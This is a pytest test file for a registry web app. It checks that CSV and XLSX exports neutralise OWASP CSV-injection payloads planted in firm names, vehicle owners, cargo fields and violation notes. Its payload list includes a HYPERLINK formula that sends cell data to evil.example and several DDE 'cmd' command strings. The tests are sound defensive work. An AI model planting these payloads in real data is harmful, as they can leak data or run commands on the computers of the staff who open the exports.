"""Exports carry data, never formulas (OWASP CSV injection): text a spreadsheet would take for a formula or
a DDE call, planted wherever a firm, a driver or a clerk types text, stays text in every CSV and XLSX the
bureau downloads (issue 29)."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from registry.accounts.models import Role
from registry.common.exports import Column, Sheet, csv_response, inert, workbook_response
from registry.events.models import Violation
from registry.extensions import db
from registry.gates.services import create_gate
from registry.inplant.models import PlantVehicle
from registry.weighbridge.models import WeighTicket
from tests.support.machinery import MACHINE

NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")  # a number a spreadsheet reads as one, not a formula
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only: cell types are visible
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(data: bytes, fmt: str, planted: list[str]) -> None:
    if fmt == "csv":
        cells = csv_cells(data)
        formulas = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)]
        assert not formulas
        for payload in planted:
            assert any(payload in c for c in cells), payload
        return
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [str(c.value) for c in cells if c.value is not None]
    for payload in planted:
        assert any(payload in v for v in values), payload


def test_the_writer_keeps_every_formula_as_text(app):
    columns = [Column("文本", "text"), Column("数量", "number"), Column("=标题", "=title")]
    rows = [[payload, -5, payload] for payload in [*PAYLOADS, "\t=1+1", "普通文本"]]
    with app.test_request_context():
        as_csv = b"".join(csv_response("t.csv", columns, iter(rows)).response)
        as_xlsx = b"".join(workbook_response("t.xlsx", [Sheet("s", columns, iter(rows))]).response)
    cells = csv_cells(as_csv)
    assert "'" + PAYLOADS[0] in cells and "-5" in cells and "普通文本" in cells  # numbers stay numbers
    assert_inert(as_csv, "csv", PAYLOADS)
    assert_inert(as_xlsx, "xlsx", PAYLOADS)
    assert [c.value for c in xlsx_cells(as_xlsx) if c.column == 2][1] == -5
    assert inert("晋H12345") == "晋H12345" and inert("=1") == "'=1"


@pytest.fixture
def planted(client, make_user, make_firm, make_vehicle, bureau):
    """A firm, gate, truck, ticket, in-plant vehicle, machine and review note, each carrying a payload."""
    firm = make_firm(name=PAYLOADS[0][:60], industry="coking", annual_freight_tonnes=2_000_000)
    gate, secret = create_gate(None, firm, PAYLOADS[1])
    make_vehicle(plate="晋H20001", emission_stage="5", owner=PAYLOADS[2])
    _user, token = make_user(Role.FIRM, firm_id=firm.id)
    firm_headers = {"Authorization": f"Bearer {token}"}
    moment = datetime(2026, 11, 20, 2, tzinfo=UTC)
    answer = client.post(
        f"/api/v1/gates/{gate.code}/events",
        json={"event_id": "inj-1", "plate": "晋H20001", "plate_color": "yellow", "direction": "out",
              "captured_at": moment.isoformat(), "confidence": 0.9},
        headers={"Authorization": f"Bearer {secret}"},
    )  # fmt: skip
    assert answer.status_code == 201 and answer.get_json()["decision"] == "deny"
    db.session.add(
        WeighTicket(firm_id=firm.id, ticket_no="T-1", plate="晋H20001", weighed_at=moment + timedelta(minutes=1),
                    net_t=30, cargo=PAYLOADS[3][:32], status="matched", pass_id=answer.get_json()["id"],
                    pass_at=moment)
    )  # fmt: skip
    db.session.add(PlantVehicle(firm_id=firm.id, code=PAYLOADS[4][:32], emission_stage="4", fuel_type="diesel"))
    machine = client.post("/api/v1/machinery", json=MACHINE | {"model": PAYLOADS[0][:100]}, headers=firm_headers)
    assert machine.status_code == 201, machine.get_json()
    db.session.commit()
    [violation] = db.session.scalars(select(Violation).where(Violation.plate_event_id == answer.get_json()["id"]))
    reviewed = client.patch(
        f"/api/v1/violations/{violation.id}", json={"status": "confirmed", "note": PAYLOADS[4]}, headers=bureau
    )
    assert reviewed.status_code == 200, reviewed.get_json()
    return firm


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_export_carries_a_planted_formula(client, bureau, planted, fmt):
    ledger = f"/api/v1/firms/{planted.id}/ledger.{fmt}?from=2026-11-20&to=2026-11-20"
    exports = {
        ledger: [PAYLOADS[1], PAYLOADS[2], PAYLOADS[3][:32]],
        f"/api/v1/violations.{fmt}": [PAYLOADS[0][:60], PAYLOADS[1]],
        f"/api/v1/machinery.{fmt}": [PAYLOADS[0][:100]],
    }
    if fmt == "csv":
        exports[f"{ledger}&part=4"] = [PAYLOADS[4][:32]]
    else:
        exports[ledger].append(PAYLOADS[4][:32])
    if fmt == "xlsx":  # the alert evaluation's report names every firm in the alert's region
        alert = client.post(
            "/api/v1/alerts",
            json={"level": "orange", "starts_at": "2026-11-20T00:00:00+08:00", "ends_at": "2026-11-21T00:00:00+08:00"},
            headers=bureau,
        )
        assert alert.status_code == 201, alert.get_json()
        exports[f"/api/v1/alerts/{alert.get_json()['id']}/evaluation.xlsx"] = [PAYLOADS[0][:60]]
    for url, planted_here in exports.items():
        with client.get(url, headers=bureau) as answer:
            assert answer.status_code == 200, url
            assert_inert(answer.data, fmt, planted_here)
